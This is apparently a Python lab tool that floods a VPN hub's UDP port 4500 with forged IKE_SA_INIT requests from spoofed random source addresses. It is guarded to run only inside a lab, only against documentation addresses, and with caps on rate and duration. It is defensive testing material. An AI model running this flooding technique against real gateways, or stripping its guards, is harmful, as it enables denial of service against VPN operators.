"""Sends IKE_SA_INIT requests that nobody means, as an attacker would, to UDP 4500 of a hub of the lab.

Stand-alone, standard library only: runs in a namespace of a lab, by way of `flooding`. Every packet is well-formed: the
non-ESP marker, a random initiator SPI, a proposal that our hubs accept, a point that is on the curve, a nonce, the
notifications that a dialler sends. Each comes from a random address of `--source` and a random port (or `--port`).
Answers are not heard, so no cookie is ever returned.

It is bounded in itself: at most `MAX_RATE` packets a second, at most `MAX_SECONDS`, and only where it can do no harm:
inside a lab, to a documentation address. Prints what it sent as JSON.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import socket
import struct
import sys
import time
from ipaddress import IPv4Address, IPv4Network
from pathlib import Path

MAX_RATE = 5000
MAX_SECONDS = 15.0
# RFC 5737; all hubs of the lab have their public addresses there.
ALLOWED = tuple(IPv4Network(text) for text in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24"))
# Only a lab's own mounts have it.
LAB = Path("/run/lab/logs")

_SPI_AT = 20 + 8 + 4  # after IP, UDP and the non-ESP marker
# P-256's base point: as good a public key as any, and on the curve, which is checked.
_POINT = bytes.fromhex(
    "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
    "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5"
)
_SA, _KE, _NONCE, _NOTIFY, _LAST = 33, 34, 40, 41, 0


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--to", type=IPv4Address, required=True)
    parser.add_argument("--source", type=IPv4Network, required=True)
    parser.add_argument("--port", type=int, default=0, help="the source port; 0: a random one each time")
    parser.add_argument("--rate", type=int, required=True, help="packets per second")
    parser.add_argument("--seconds", type=float, required=True)
    arguments = parser.parse_args()
    refusal = _refusal(arguments)
    if refusal:
        print(refusal, file=sys.stderr)
        return 2
    started = time.monotonic()
    sent = _flood(arguments)
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - started}))
    return 0


def _refusal(arguments: argparse.Namespace) -> str:
    if not LAB.is_dir():
        return "this is not inside a lab"
    if not any(arguments.to in network for network in ALLOWED):
        return f"{arguments.to} is no documentation address"
    if not 0 < arguments.rate <= MAX_RATE or not 0 < arguments.seconds <= MAX_SECONDS:
        return f"at most {MAX_RATE} packets a second for {MAX_SECONDS:g} s"
    return ""


def _flood(arguments: argparse.Namespace) -> int:
    sources: IPv4Network = arguments.source
    to: IPv4Address = arguments.to
    rate: int = arguments.rate
    start = time.monotonic()
    sent = 0
    message = _message()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while (elapsed := time.monotonic() - start) < arguments.seconds:
            # What was missed while the machine was busy is not made up for in one burst.
            for _ in range(min(int(elapsed * rate) - sent, max(1, rate // 50))):
                source = sources[random.randrange(sources.num_addresses)]
                port = arguments.port or random.randrange(1024, 65536)
                raw.sendto(_packet(source, port, to, message), (str(to), 0))
                sent += 1
            time.sleep(0.001)
    return sent


def _packet(source: IPv4Address, port: int, to: IPv4Address, message: bytes) -> bytes:
    length = 8 + len(message)
    # The kernel fills in the total length and the checksum; UDP over IPv4 may go without one.
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, source.packed, to.packed)
    udp = struct.pack("!HHHH", port, 4500, length, 0)
    packet = bytearray(ip + udp + message)
    packet[_SPI_AT : _SPI_AT + 8] = os.urandom(8)
    return bytes(packet)


def _message() -> bytes:
    """The non-ESP marker and an IKE_SA_INIT request (RFC 7296)."""
    transforms = (
        # type, id, attributes: AES-GCM with 16 bytes of ICV and a key of 256 bits, PRF-SHA384, ECP-256.
        struct.pack("!BxHBxHHH", 3, 12, 1, 20, 0x800E, 256),
        struct.pack("!BxHBxH", 3, 8, 2, 6),
        struct.pack("!BxHBxH", 0, 8, 4, 19),
    )
    inner = b"".join(transforms)
    proposal = struct.pack("!BxHBBBB", 0, 8 + len(inner), 1, 1, 0, len(transforms)) + inner
    payloads = (
        (_SA, proposal),
        (_KE, struct.pack("!Hxx", 19) + _POINT),
        (_NONCE, os.urandom(32)),
        *((_NOTIFY, struct.pack("!BBH", 0, 0, kind) + os.urandom(20)) for kind in (16388, 16389)),  # NAT detection
        (_NOTIFY, struct.pack("!BBH", 0, 0, 16430)),  # fragmentation is supported
    )
    following = [kind for kind, _ in payloads[1:]] + [_LAST]
    body = b"".join(
        struct.pack("!BxH", after, 4 + len(data)) + data for after, (_, data) in zip(following, payloads, strict=True)
    )
    header = struct.pack("!8s8sBBBBII", bytes(8), bytes(8), _SA, 0x20, 34, 0x08, 0, 28 + len(body))
    return bytes(4) + header + body


if __name__ == "__main__":
    sys.exit(main())
